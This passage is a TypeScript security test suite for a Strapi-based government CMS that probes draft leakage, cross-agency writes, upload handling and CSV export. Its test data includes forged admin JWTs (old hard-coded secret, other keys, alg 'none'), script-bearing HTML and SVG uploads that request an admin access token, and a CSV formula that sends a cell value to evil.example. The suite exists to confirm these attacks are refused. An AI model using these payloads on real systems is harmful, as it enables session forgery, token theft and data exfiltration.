/**
 * Adversarial suite, access control (issue 9, classes 1, 2, 3, 5, 6 and the "also open" list),
 * against a booted CMS on a real database (SQLite, then PostgreSQL in the second pass).
 * Attackers: the public, a non-preview API token, another agency's editor, a forged admin token.
 * Every refusal is checked together with "nothing stored changed": rows, relations on both
 * sides, updatedAt and the audit log.
 */
import { randomBytes } from 'node:crypto';
import path from 'node:path';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { todayInVietnam } from '@cong/shared';
import { bootCms, cmsDir, gql, type BootedCms } from '../helpers/strapi';
import { TRANSITION_UID, call, createAccount, login } from '../helpers/workflow';
import { UID } from '../helpers/uids';

const require = createRequire(path.join(cmsDir, 'package.json'));
const jwt = require('jsonwebtoken');

const ART = UID.article;
const DOC = UID.legalDocument;
const PROC = UID.administrativeProcedure;
const AGENCY = UID.agency;
const HOME = UID.homepage;
const PROFILE = UID.provinceProfile;
const DB = process.env.TEST_DB ?? 'sqlite';

const previewKey = randomBytes(40).toString('hex');
let cms: BootedCms;
let s: any;
const agency: Record<'A' | 'B', string> = { A: '', B: '' };
const tok: Record<string, string> = {};
const ids: Record<string, number> = {};
const SECRET_A = 'BÍ-MẬT-CỦA-SỞ-A';
const SECRET_EDIT = 'BẢN-SỬA-CHƯA-ĐĂNG';
const SECRET_SINGLE = 'TRANG-CHỦ-NHÁP';
const doc: Record<string, { documentId: string; slug: string; id: number }> = {};

const docs = (uid: string) => s.documents(uid);

async function make(uid: string, data: Record<string, unknown>, publish: boolean) {
  const d = await docs(uid).create({ data: { ...data, editorialState: publish ? 'published' : 'draft' }, status: publish ? 'published' : undefined });
  const row = await s.db.query(uid).findOne({ where: { documentId: d.documentId, publishedAt: null } });
  return { documentId: d.documentId as string, slug: row.slug as string, id: row.id as number };
}

/** Everything stored about some documents: every row with its relations (both sides), updatedAt, and the log. */
async function stored(uid: string, documentIds: string[]) {
  const populate: Record<string, unknown> = {};
  for (const [k, a] of Object.entries<any>(s.getModel(uid).attributes)) if (a.type === 'relation') populate[k] = { select: ['documentId'] };
  const rows = await s.db.query(uid).findMany({ where: { documentId: { $in: documentIds } }, populate, orderBy: { id: 'asc' } });
  const log = await s.db.query(TRANSITION_UID).findMany({ where: { itemDocumentId: { $in: documentIds } }, orderBy: { id: 'asc' } });
  const norm = (v: any): any =>
    Array.isArray(v)
      ? v.map((x) => x?.documentId ?? x).sort()
      : v && typeof v === 'object' && 'documentId' in v && Object.keys(v).length <= 2
        ? v.documentId
        : v;
  return {
    count: await s.db.query(uid).count(),
    logCount: await s.db.query(TRANSITION_UID).count(),
    rows: rows.map((r: any) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, norm(v)]))),
    log: log.map((l: any) => l.id),
  };
}

beforeAll(async () => {
  cms = await bootCms({ env: { PREVIEW_URL: 'http://127.0.0.1:9', PREVIEW_SECRET: randomBytes(24).toString('hex'), CMS_PREVIEW_TOKEN: previewKey } });
  s = cms.strapi;
  agency.A = (await make(AGENCY, { name: 'Sở Tài nguyên và Môi trường', kind: 'department', updateSchedule: 'monWedFri' }, true)).documentId;
  agency.B = (await make(AGENCY, { name: 'UBND thành phố Lào Cai', kind: 'district', updateSchedule: 'monWedFri' }, true)).documentId;
  ids.agencyA = (await s.db.query(AGENCY).findOne({ where: { documentId: agency.A, publishedAt: null } })).id;
  doc.pubA = await make(ART, { title: 'Tin đã đăng của Sở A', kind: 'news', scope: 'province', agency: agency.A }, true);
  // an unpublished edit of published content
  await docs(ART).update({ documentId: doc.pubA.documentId, data: { title: `Tin đã đăng của Sở A ${SECRET_EDIT}` } });
  doc.draftA = await make(ART, { title: `Tin nháp ${SECRET_A}`, kind: 'news', scope: 'province', agency: agency.A }, false);
  doc.draftB = await make(ART, { title: 'Tin nháp của thành phố', kind: 'news', scope: 'province', agency: agency.B }, false);
  const law = { documentType: 'decision', issuingBody: 'UBND tỉnh Lào Cai', issuedDate: '2026-01-05', abstract: 'Trích yếu' };
  doc.lawA = await make(DOC, { ...law, documentNumber: '01/2026/QĐ-UBND', agency: agency.A }, true);
  doc.lawDraftA = await make(DOC, { ...law, documentNumber: '02/2026/QĐ-UBND', agency: agency.A }, false);
  doc.lawB = await make(DOC, { ...law, documentNumber: '03/2026/QĐ-UBND', agency: agency.B }, false);
  const home = await docs(HOME).create({ data: { welcome: 'Chào mừng', editorialState: 'published' }, status: 'published' });
  await docs(HOME).update({ documentId: home.documentId, data: { welcome: `Chào mừng ${SECRET_SINGLE}` } });
  const profile = await docs(PROFILE).create({ data: { name: 'Tỉnh Lào Cai', editorialState: 'published' }, status: 'published' });
  await docs(PROFILE).update({ documentId: profile.documentId, data: { name: `Tỉnh Lào Cai ${SECRET_SINGLE}` } });

  const accounts = [
    { key: 'editorA', role: 'agencyEditor', agency: 'A' },
    { key: 'editorB', role: 'agencyEditor', agency: 'B' },
    { key: 'leadB', role: 'agencyTeamLead', agency: 'B' },
    { key: 'board', role: 'editorialBoard' },
    { key: 'council', role: 'editorialCouncil' },
    { key: 'it', role: 'itCentre' },
  ] as const;
  for (const a of accounts) {
    const email = `${a.key.toLowerCase()}@sec.test`;
    const user = await createAccount(s, { email, role: a.role, agencyDocumentId: 'agency' in a ? agency[a.agency] : undefined });
    ids[a.key] = user.id;
    tok[a.key] = await login(cms.url, email);
  }
  tok.full = (await s.admin.services['api-token-content-api'].create({ name: 'Tích hợp', type: 'full-access', lifespan: null, kind: 'content-api' })).accessKey;
  tok.readOnly = (
    await s.admin.services['api-token-content-api'].create({ name: 'Chỉ đọc (thử)', type: 'read-only', lifespan: null, kind: 'content-api' })
  ).accessKey;
  tok.preview = previewKey;
}, 600_000);

afterAll(async () => {
  await cms?.stop();
});

const SECRETS = [SECRET_A, SECRET_EDIT, SECRET_SINGLE];
const leaks = (body: unknown) => SECRETS.filter((x) => JSON.stringify(body ?? '').includes(x));

describe(`class 1 — the content API serves published content only (${DB})`, () => {
  const STATUS_VARIANTS = [
    'status=draft',
    'status=DRAFT',
    'status=Draft',
    'status=',
    'status',
    'status=xyz',
    'status[]=draft',
    'status[0]=published&status[1]=draft',
    'status[$ne]=published',
    'status%00=draft',
    'status=draft%00',
    'status=%20draft',
    'status=published%00',
    'status=published%20',
    'status=published&status=draft',
    '%20status=draft',
    'Status=draft',
    'STATUS=draft',
    'status%5B%5D=draft',
  ];
  const paths = () => [
    '/api/articles',
    `/api/articles/${doc.pubA.documentId}`,
    `/api/articles/${doc.draftA.documentId}`,
    '/api/legal-documents',
    '/api/homepage',
    '/api/province-profile',
    `/api/agencies/${agency.A}?populate=articles`,
  ];

  for (const who of ['public', 'full', 'readOnly'] as const) {
    it(`${who}: every spelling of status other than "published" is refused with 400 naming status, on collections, entries and single types`, async () => {
      for (const p of paths()) {
        for (const v of STATUS_VARIANTS) {
          const r = await call(cms.url, who === 'public' ? null : tok[who], 'GET', `${p}${p.includes('?') ? '&' : '?'}${v}`);
          expect(r.status, `${who} ${p}?${v} → ${r.status} ${JSON.stringify(r.body).slice(0, 200)}`).toBe(400);
          expect(JSON.stringify(r.body)).toContain('status');
          expect(leaks(r.body), `${p}?${v}`).toEqual([]);
        }
      }
    });

    it(`${who}: no status or status=published gives the published versions only`, async () => {
      for (const q of ['', '?status=published']) {
        const list = await call(cms.url, who === 'public' ? null : tok[who], 'GET', `/api/articles${q}`);
        expect(list.status).toBe(200);
        expect(list.body.data.map((a: any) => a.title)).toEqual(['Tin đã đăng của Sở A']);
        const one = await call(cms.url, who === 'public' ? null : tok[who], 'GET', `/api/articles/${doc.draftA.documentId}${q}`);
        expect(one.status).toBe(404);
        for (const p of ['/api/homepage', '/api/province-profile', `/api/agencies/${agency.A}?populate=articles`]) {
          const r = await call(cms.url, who === 'public' ? null : tok[who], 'GET', `${p}${q ? (p.includes('?') ? '&' : '?') + q.slice(1) : ''}`);
          expect(r.status, p).toBe(200);
          expect(leaks(r.body), p).toEqual([]);
        }
      }
    });

    it(`${who}: GraphQL status arguments other than PUBLISHED are refused, however they are written`, async () => {
      const t = who === 'public' ? undefined : tok[who];
      const queries: [string, Record<string, unknown>][] = [
        ['{ articles(status: DRAFT) { title } }', {}],
        [`{ article(documentId: "${doc.draftA.documentId}", status: DRAFT) { title } }`, {}],
        [`{ article(documentId: "${doc.pubA.documentId}", status: DRAFT) { title } }`, {}],
        ['query($s: PublicationStatus) { articles(status: $s) { title } }', { s: 'DRAFT' }],
        ['{ homepage(status: DRAFT) { welcome } }', {}],
        ['{ provinceProfile(status: DRAFT) { name } }', {}],
        ['{ legalDocuments_connection(status: DRAFT) { nodes { documentNumber } } }', {}],
        [`{ agency(documentId: "${agency.A}", status: DRAFT) { name articles { title } } }`, {}],
        ['{ a: articles(status: PUBLISHED) { title } b: articles(status: DRAFT) { title } }', {}],
      ];
      for (const [q, v] of queries) {
        const r = await gql(cms.url, q, v, t);
        expect(r.errors?.length, q).toBeGreaterThan(0);
        expect(leaks(r), q).toEqual([]);
      }
      const ok = await gql(cms.url, `{ articles { title } homepage { welcome } agency(documentId: "${agency.A}") { articles { title } } }`, {}, t);
      expect(ok.errors).toBeUndefined();
      expect(leaks(ok)).toEqual([]);
      expect(ok.data.articles.map((a: any) => a.title)).toEqual(['Tin đã đăng của Sở A']);
    });
  }

  it('the preview-only token reads drafts (the site preview route), over REST and GraphQL', async () => {
    const r = await call(cms.url, tok.preview, 'GET', `/api/articles/${doc.draftA.documentId}?status=draft`);
    expect(r.status).toBe(200);
    expect(r.body.data.title).toContain(SECRET_A);
    const g = await gql(cms.url, '{ homepage(status: DRAFT) { welcome } }', {}, tok.preview);
    expect(g.data.homepage.welcome).toContain(SECRET_SINGLE);
    // and it writes nothing
    const w = await call(cms.url, tok.preview, 'POST', '/api/articles?status=draft', { data: { title: 'x', kind: 'news', scope: 'province' } });
    expect(w.status).toBeGreaterThanOrEqual(400);
  });
});

describe(`class 2 — no secret in the code; a forged admin token is refused (${DB})`, () => {
  const me = (t: string) => call(cms.url, t, 'GET', '/admin/users/me');

  it('a real token works; the same claims signed with the old in-code secret, another key, or none are refused', async () => {
    expect((await me(tok.editorB)).status).toBe(200);
    const claims = jwt.decode(tok.editorB);
    expect(claims.userId).toBe(String(ids.editorB));
    const asIt = { ...claims, userId: String(ids.it) };
    for (const key of ['cong-local-admin-jwt-secret', randomBytes(32).toString('hex'), '']) {
      const forged = key ? jwt.sign(asIt, key, { algorithm: 'HS256', noTimestamp: true }) : jwt.sign(asIt, null, { algorithm: 'none' });
      const r = await me(forged);
      expect(r.status, `key ${JSON.stringify(key.slice(0, 10))}`).toBe(401);
      expect((await call(cms.url, forged, 'GET', '/admin/users')).status).toBe(401);
    }
  });

  it("a token signed with the installation's own key but carrying another user's id is refused (the session belongs to its user)", async () => {
    const key = s.config.get('admin.auth.secret');
    expect(key).toBeTruthy();
    expect(key).not.toBe('cong-local-admin-jwt-secret');
    const claims = jwt.decode(tok.editorB);
    const forged = jwt.sign({ ...claims, userId: String(ids.it) }, key, { algorithm: 'HS256', noTimestamp: true });
    const r = await me(forged);
    expect(r.status).toBe(401);
    expect((await call(cms.url, forged, 'GET', '/admin/api-tokens')).status).toBe(401);
  });
});

describe(`class 3 — a preview is signed only for who may read the document (${DB})`, () => {
  const preview = (t: string | null, uid: string, documentId: string) =>
    call(cms.url, t, 'GET', `/content-manager/preview/url/${uid}?documentId=${documentId}&status=draft`);

  it("another agency's editor and team lead get 403 and no link, for drafts and published items alike", async () => {
    for (const who of ['editorB', 'leadB']) {
      for (const d of [doc.draftA, doc.pubA]) {
        const r = await preview(tok[who], ART, d.documentId);
        expect(r.status, `${who} ${JSON.stringify(r.body)}`).toBe(403);
        expect(JSON.stringify(r.body)).not.toMatch(/xem-truoc|http:\/\/127\.0\.0\.1:9/);
      }
      expect((await preview(tok[who], DOC, doc.lawDraftA.documentId)).status).toBe(403);
    }
  });

  it('a document that does not exist is refused like a forbidden one; no login is 401', async () => {
    expect((await preview(tok.editorB, ART, 'zzzzzzzzzzzzzzzzzzzzzzzz')).status).toBe(403);
    expect((await preview(null, ART, doc.draftB.documentId)).status).toBe(401);
  });

  it('the own agency, the board and the council get a signed link', async () => {
    for (const [who, d] of [
      ['editorB', doc.draftB],
      ['editorA', doc.draftA],
      ['board', doc.draftA],
      ['council', doc.draftB],
    ] as const) {
      const r = await preview(tok[who], ART, d.documentId);
      expect(r.status, `${who} ${JSON.stringify(r.body)}`).toBe(200);
      expect(r.body.data.url).toContain(`/xem-truoc/article/${d.documentId}/`);
    }
  });
});

describe(`class 5 — relation payloads are normalised before they are checked (${DB})`, () => {
  const CM = (uid: string) => `/content-manager/collection-types/${uid}`;
  const variants = () => [
    { agency: { connect: [{ documentId: agency.B }, { documentId: agency.A }] } },
    { agency: { connect: [{ documentId: agency.A }, { documentId: agency.B }] } },
    { agency: { connect: [agency.B, agency.A] } },
    { agency: [agency.B, agency.A] },
    { agency: { set: [agency.B, agency.A] } },
    { agency: { set: [agency.B], connect: [agency.A] } },
    { agency: { documentId: agency.B, id: ids.agencyA } },
    { agency: { connect: [{ documentId: agency.B, id: ids.agencyA }] } },
    { agency: `${ids.agencyA}abc` },
    { agency: { connect: [{ documentId: agency.A }] } },
    { agency: agency.A },
    { agency: ids.agencyA },
    { agency: String(ids.agencyA) },
    { agency: { connect: [{ id: ids.agencyA }] } },
    { agency: { set: [{ id: ids.agencyA }] } },
    { agency: { connect: [{ documentId: agency.A }], disconnect: [{ documentId: agency.B }] } },
    { agency: { connect: [{ documentId: agency.A, position: { end: true } }] } },
    { agency: { foo: agency.A } },
  ];

  it('an agency editor cannot create content in another agency, or with two agencies, whatever the shape', async () => {
    for (const v of variants()) {
      const before = await stored(ART, []);
      const r = await call(cms.url, tok.editorB, 'POST', CM(ART), {
        title: `Chuyển đơn vị ${JSON.stringify(v).slice(0, 40)}`,
        kind: 'news',
        scope: 'province',
        ...v,
      });
      expect([400, 403], `${JSON.stringify(v)} → ${r.status} ${JSON.stringify(r.body).slice(0, 200)}`).toContain(r.status);
      expect(await stored(ART, [])).toEqual(before);
    }
  });

  it('an agency editor cannot move its content into another agency, whatever the shape; nothing stored changes', async () => {
    for (const v of variants()) {
      const before = await stored(ART, [doc.draftB.documentId, doc.pubA.documentId]);
      const agencyBefore = await stored(AGENCY, [agency.A, agency.B]);
      const r = await call(cms.url, tok.editorB, 'PUT', `${CM(ART)}/${doc.draftB.documentId}`, { title: 'Tin nháp của thành phố', ...v });
      expect([400, 403], `${JSON.stringify(v)} → ${r.status} ${JSON.stringify(r.body).slice(0, 200)}`).toContain(r.status);
      expect(await stored(ART, [doc.draftB.documentId, doc.pubA.documentId])).toEqual(before);
      expect(await stored(AGENCY, [agency.A, agency.B])).toEqual(agencyBefore);
    }
  });

  it('the board cannot store two agencies on one item either (a to-one relation takes exactly one target)', async () => {
    const before = await stored(ART, [doc.draftB.documentId]);
    const r = await call(cms.url, tok.board, 'PUT', `${CM(ART)}/${doc.draftB.documentId}`, {
      agency: { connect: [{ documentId: agency.B }, { documentId: agency.A }] },
    });
    expect(r.status).toBe(400);
    expect(JSON.stringify(r.body)).toContain('agency');
    expect(await stored(ART, [doc.draftB.documentId])).toEqual(before);
  });
});

describe(`class 6 — no write reaches another agency's document through a relation (${DB})`, () => {
  const CM = (uid: string) => `/content-manager/collection-types/${uid}`;
  const law = { documentType: 'decision', issuingBody: 'UBND thành phố Lào Cai', issuedDate: '2026-02-01', abstract: 'Trích yếu' };
  let n = 10;
  const watched = () => [doc.lawA.documentId, doc.lawDraftA.documentId, doc.lawB.documentId];

  it("creating its own document with replacedBy/amendedBy/replaces/amends pointing at another agency's is refused", async () => {
    const shapes = (target: { documentId: string; id: number }) => [
      { replacedBy: { connect: [{ documentId: target.documentId }] } },
      { amendedBy: [target.documentId] },
      { replaces: { set: [{ id: target.id }] } },
      { amends: target.documentId },
      { replacedBy: { connect: [{ documentId: doc.lawB.documentId }, { documentId: target.documentId }] } },
    ];
    for (const target of [doc.lawA, doc.lawDraftA]) {
      for (const v of shapes(target)) {
        const before = await stored(DOC, watched());
        const r = await call(cms.url, tok.editorB, 'POST', CM(DOC), { ...law, documentNumber: `${++n}/2026/QĐ-UBND`, ...v });
        expect(r.status, `${JSON.stringify(v)} → ${JSON.stringify(r.body).slice(0, 200)}`).toBe(403);
        expect(await stored(DOC, watched())).toEqual(before);
      }
    }
  });

  it("updating its own document to link another agency's is refused; nothing changes on either side", async () => {
    for (const v of [
      { amends: { connect: [{ documentId: doc.lawA.documentId }] } },
      { replacedBy: { set: [doc.lawA.documentId] } },
      { amendedBy: [doc.lawDraftA.id] },
    ]) {
      const before = await stored(DOC, watched());
      const r = await call(cms.url, tok.editorB, 'PUT', `${CM(DOC)}/${doc.lawB.documentId}`, v);
      expect(r.status, JSON.stringify(r.body).slice(0, 200)).toBe(403);
      expect(await stored(DOC, watched())).toEqual(before);
    }
  });

  it("an agency record's lists cannot pull another agency's content in (inverse side of agency)", async () => {
    const before = await stored(ART, [doc.draftA.documentId, doc.pubA.documentId]);
    for (const v of [
      { articles: { connect: [{ documentId: doc.draftA.documentId }] } },
      { articles: [doc.pubA.documentId] },
      { legalDocuments: { set: [doc.lawA.id] } },
    ]) {
      const r = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${AGENCY}/${agency.B}`, v);
      expect(r.status, JSON.stringify(r.body).slice(0, 200)).toBeGreaterThanOrEqual(400);
      expect(await stored(ART, [doc.draftA.documentId, doc.pubA.documentId])).toEqual(before);
    }
  });

  it("a one-way link may point at another agency's published document, never at its unpublished draft", async () => {
    const proc = { name: 'Thủ tục thử nghiệm', field: 'Đất đai' };
    const draft = await call(cms.url, tok.editorB, 'POST', CM(PROC), { ...proc, legalBasis: { connect: [{ documentId: doc.lawDraftA.documentId }] } });
    expect(draft.status, JSON.stringify(draft.body).slice(0, 300)).toBe(403);
    const ok = await call(cms.url, tok.editorB, 'POST', CM(PROC), { ...proc, legalBasis: { connect: [{ documentId: doc.lawA.documentId }] } });
    expect(ok.status, JSON.stringify(ok.body).slice(0, 300)).toBe(201);
  });

  it("the board may link two agencies' documents: both sides change and both are audited", async () => {
    const before = await s.db.query(TRANSITION_UID).count({ where: { itemDocumentId: doc.lawA.documentId } });
    const r = await call(cms.url, tok.board, 'PUT', `${CM(DOC)}/${doc.lawB.documentId}`, { replaces: { connect: [{ documentId: doc.lawA.documentId }] } });
    expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
    const a = await s.db
      .query(DOC)
      .findOne({ where: { documentId: doc.lawA.documentId, publishedAt: null }, populate: { replacedBy: { select: ['documentId'] } } });
    expect(a.replacedBy.map((x: any) => x.documentId)).toContain(doc.lawB.documentId);
    const entries = await s.db.query(TRANSITION_UID).findMany({ where: { itemDocumentId: doc.lawA.documentId }, orderBy: { id: 'desc' } });
    expect(entries.length).toBe(before + 1);
    expect(entries[0].action).toBe('edit');
    expect(entries[0].actorId).toBe(`admin:${ids.board}`);
    expect(JSON.stringify(entries[0].detail)).toContain(doc.lawB.documentId);
    expect(JSON.stringify(entries[0].detail)).toContain('replacedBy');
  });
});

describe(`also open — registration, default tokens, CORS, slug oracle (${DB})`, () => {
  it('nobody can register an account through users-permissions', async () => {
    const before = await s.db.query('plugin::users-permissions.user').count();
    for (const body of [
      { username: 'ke-la', email: 'kela@example.com', password: 'Matkhau@12345' },
      { username: 'ke-la2', email: 'kela2@example.com', password: 'Matkhau@12345', role: 1 },
    ]) {
      const r = await call(cms.url, null, 'POST', '/api/auth/local/register', body);
      expect(r.status).toBeGreaterThanOrEqual(400);
    }
    const g = await gql(cms.url, 'mutation { register(input: { username: "kela3", email: "kela3@example.com", password: "Matkhau@12345" }) { jwt } }');
    expect(g.errors?.length).toBeGreaterThan(0);
    expect(await s.db.query('plugin::users-permissions.user').count()).toBe(before);
    const store = await s.store({ type: 'plugin', name: 'users-permissions' }).get({ key: 'advanced' });
    expect(store.allow_register).toBe(false);
  });

  it("Strapi's default Full Access and Read Only API tokens do not exist", async () => {
    const names = (await s.db.query('admin::api-token').findMany({ select: ['name'] })).map((t: any) => t.name);
    expect(names).not.toContain('Full Access');
    expect(names).not.toContain('Read Only');
  });

  it('the public role can only read (find, findOne) the public content types', async () => {
    const role = await s.db.query('plugin::users-permissions.role').findOne({ where: { type: 'public' } });
    const actions: string[] = (await s.db.query('plugin::users-permissions.permission').findMany({ where: { role: role.id } })).map((p: any) => p.action);
    expect(actions.length).toBeGreaterThan(0);
    for (const a of actions) expect(a).toMatch(/^api::[a-z-]+\.[a-z-]+\.(find|findOne)$/);
  });

  it('CORS answers no foreign origin, with or without credentials, on the content API and the admin token route', async () => {
    for (const [method, p] of [
      ['OPTIONS', '/admin/access-token'],
      ['POST', '/admin/access-token'],
      ['GET', '/api/articles'],
      ['OPTIONS', '/graphql'],
    ]) {
      const res = await fetch(`${cms.url}${p}`, {
        method,
        headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      });
      expect(res.headers.get('access-control-allow-origin'), `${method} ${p}`).toBeNull();
      expect(res.headers.get('access-control-allow-credentials'), `${method} ${p}`).toBeNull();
    }
  });

  it("the media library shows an agency account only its agency's files", async () => {
    const upload = async (t: string, name: string) => {
      const form = new FormData();
      form.append('files', new Blob([`%PDF-1.4 ${name}`], { type: 'application/pdf' }), name);
      const res = await fetch(`${cms.url}/upload`, { method: 'POST', headers: { authorization: `Bearer ${t}` }, body: form });
      expect(res.status, await res.clone().text()).toBeLessThan(300);
      return ((await res.json()) as any[])[0];
    };
    const fileA = await upload(tok.editorA, 'quyet-dinh-nhap-so-a.pdf');
    ids.fileA = fileA.id;
    const fileB = await upload(tok.editorB, 'ke-hoach-thanh-pho.pdf');
    const names = async (t: string) => ((await call(cms.url, t, 'GET', '/upload/files?pageSize=100')).body.results ?? []).map((f: any) => f.name);
    expect(await names(tok.editorB)).toEqual(['ke-hoach-thanh-pho.pdf']);
    expect(await names(tok.leadB)).toEqual(['ke-hoach-thanh-pho.pdf']);
    expect(await names(tok.editorA)).toEqual(['quyet-dinh-nhap-so-a.pdf']);
    expect((await names(tok.board)).sort()).toEqual(['ke-hoach-thanh-pho.pdf', 'quyet-dinh-nhap-so-a.pdf']);
    expect((await call(cms.url, tok.editorB, 'GET', `/upload/files/${fileA.id}`)).status).toBe(403);
    const rename = await call(cms.url, tok.editorB, 'POST', `/upload?id=${fileA.id}`, { fileInfo: { name: 'doi-ten.pdf' } });
    expect(rename.status).toBeGreaterThanOrEqual(400);
    expect((await s.db.query('plugin::upload.file').findOne({ where: { id: fileA.id } })).name).toBe('quyet-dinh-nhap-so-a.pdf');
    expect(fileB.id).toBeTruthy();
  });

  it('an uploaded file never runs as script in the admin origin: HTML, SVG and JavaScript are refused, and whatever is served from /uploads is sandboxed (red-team F12)', async () => {
    const post = async (body: string, name: string, type: string) => {
      const form = new FormData();
      form.append('files', new Blob([body], { type }), name);
      return fetch(`${cms.url}/upload`, { method: 'POST', headers: { authorization: `Bearer ${tok.editorA}` }, body: form });
    };
    const page = '<!doctype html><html><body><script>fetch("/admin/access-token",{method:"POST",credentials:"include"})</script></body></html>';
    const before = await s.db.query('plugin::upload.file').count();
    for (const [name, type, body] of [
      ['bai-viet.html', 'text/html', page],
      ['anh.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ['tep.js', 'text/javascript', 'alert(1)'],
      ['tep.xhtml', 'application/xhtml+xml', page],
    ] as const) {
      const res = await post(body, name, type);
      expect(res.status, `${name}: ${await res.clone().text()}`).toBe(400);
    }
    expect(await s.db.query('plugin::upload.file').count()).toBe(before);
    // a page that claims to be an image: whether the library keeps it or not, it is never rendered as a page
    const disguised = await post(page, 'anh-bia.html', 'image/png');
    if (disguised.status < 300) {
      const file = ((await disguised.json()) as any[])[0];
      const res = await fetch(`${cms.url}${file.url}`);
      expect(res.headers.get('content-security-policy') ?? '').toMatch(/(^|;\s*)sandbox(;|$)/);
      expect(res.headers.get('content-disposition')).toBe('attachment');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    } else {
      expect(disguised.status).toBe(400);
    }
    // an accepted document is served sandboxed too, inline (a PDF opens in the browser)
    const pdf = await post('%PDF-1.4 van ban', 'van-ban.pdf', 'application/pdf');
    expect(pdf.status).toBeLessThan(300);
    const served = await fetch(`${cms.url}${((await pdf.json()) as any[])[0].url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-security-policy') ?? '').toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-disposition')).toBeNull();
  });

  it("an agency account cannot link another agency's file by its id (ids run in sequence); its own files and files already on the item stay usable", async () => {
    expect(ids.fileA).toBeTruthy();
    const CMA = `/content-manager/collection-types/${ART}`;
    const before = await stored(ART, []);
    for (const cover of [ids.fileA, String(ids.fileA), { id: ids.fileA }, [ids.fileA]]) {
      const r = await call(cms.url, tok.editorB, 'POST', CMA, { title: 'Ảnh bìa mượn', kind: 'news', scope: 'province', cover });
      expect(r.status, `${JSON.stringify(cover)} → ${JSON.stringify(r.body).slice(0, 200)}`).toBe(403);
    }
    const upd = await call(cms.url, tok.editorB, 'PUT', `${CMA}/${doc.draftB.documentId}`, { cover: ids.fileA });
    expect(upd.status).toBe(403);
    expect(await stored(ART, [])).toEqual(before);
    // a file the board put on an agency's item stays there when the agency saves it again
    const put = await call(cms.url, tok.board, 'PUT', `${CMA}/${doc.draftB.documentId}`, { cover: ids.fileA });
    expect(put.status, JSON.stringify(put.body).slice(0, 200)).toBe(200);
    const again = await call(cms.url, tok.editorB, 'PUT', `${CMA}/${doc.draftB.documentId}`, { title: 'Tin nháp của thành phố', cover: ids.fileA });
    expect(again.status, JSON.stringify(again.body).slice(0, 200)).toBe(200);
  });

  it("populate, filters and sort of the admin API do not follow a relation into another agency's content", async () => {
    const CMP = `/content-manager/collection-types/${PROC}`;
    const created = await call(cms.url, tok.editorB, 'POST', CMP, { name: 'Thủ tục dò tìm', legalBasis: { connect: [{ documentId: doc.lawA.documentId }] } });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    const id = created.body.data.documentId;
    const deep =
      'populate[legalBasis][populate][agency][populate][articles][fields][0]=title&populate[legalBasis][populate][agency][populate][legalDocuments][fields][0]=abstract';
    for (const path of [`${CMP}/${id}?${deep}`, `${CMP}?${deep}`, `${CMP}/${id}?populate=*`, `${CMP}/${id}?populate[legalBasis][populate]=*`]) {
      const r = await call(cms.url, tok.editorB, 'GET', path);
      expect(r.status, path).toBeLessThan(500);
      expect(leaks(r.body), path).toEqual([]);
      expect(JSON.stringify(r.body), path).not.toContain('Sở Tài nguyên và Môi trường');
    }
    // a filter through the relation cannot test the other agency's rows (no yes/no oracle)
    for (const q of [
      `filters[legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`,
      `filters[$or][0][legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`,
      `filters[legalBasis][agency][name][$contains]=${encodeURIComponent('Tài nguyên')}`,
    ]) {
      const r = await call(cms.url, tok.editorB, 'GET', `${CMP}?${q}`);
      expect(r.status, q).toBe(200);
      expect(r.body.pagination?.total ?? r.body.results?.length, q).toBe(0);
    }
    // the board sees through the same link
    const board = await call(cms.url, tok.board, 'GET', `${CMP}?filters[legalBasis][documentNumber][$eq]=${encodeURIComponent('01/2026/QĐ-UBND')}`);
    expect(board.body.pagination.total).toBeGreaterThanOrEqual(1);
  });

  it('the royalty ledger pays the author that was published, and its CSV runs no formula', async () => {
    const d = await docs(ART).create({
      data: { title: '=SUM(1+1) tin nhuận bút', kind: 'news', scope: 'province', agency: agency.B, author: 'Nguyễn Văn Tác Giả' },
    });
    await docs(ART).publish({ documentId: d.documentId });
    const edit = await call(cms.url, tok.editorB, 'PUT', `/content-manager/collection-types/${ART}/${d.documentId}`, {
      author: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    });
    expect(edit.status, JSON.stringify(edit.body).slice(0, 200)).toBe(200);
    const month = todayInVietnam().slice(0, 7);
    const res = await fetch(`${cms.url}/cong-reports/royalties?month=${month}&format=csv`, { headers: { authorization: `Bearer ${tok.board}` } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain('Nguyễn Văn Tác Giả');
    expect(csv).not.toContain('HYPERLINK');
    for (const cell of csv.split(/[\n,]/)) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@]/);
  });

  it("uid/check-availability does not tell an editor which slugs another agency's drafts use", async () => {
    const check = (t: string, value: string) =>
      call(cms.url, t, 'POST', '/content-manager/uid/check-availability', { contentTypeUID: ART, field: 'slug', value });
    const other = await check(tok.editorB, doc.draftA.slug);
    expect(other.status).toBe(200);
    expect(other.body.isAvailable).toBe(true);
    const own = await check(tok.editorB, doc.draftB.slug);
    expect(own.body.isAvailable).toBe(false);
    const board = await check(tok.board, doc.draftA.slug);
    expect(board.body.isAvailable).toBe(false);
  });
});

describe(`relation pickers — a malformed request is a 4xx naming the parameter, never a 500 nor another agency's rows (${DB})`, () => {
  const REL = '/content-manager/relations';
  let ownProc = '';
  let homeId = '';

  beforeAll(async () => {
    const created = await call(cms.url, tok.editorB, 'POST', `/content-manager/collection-types/${PROC}`, {
      name: 'Thủ tục có căn cứ pháp lý',
      legalBasis: { connect: [{ documentId: doc.lawA.documentId }] },
    });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    ownProc = created.body.data.documentId;
    homeId = (await s.db.query(HOME).findOne({ where: { publishedAt: null } })).documentId;
  });

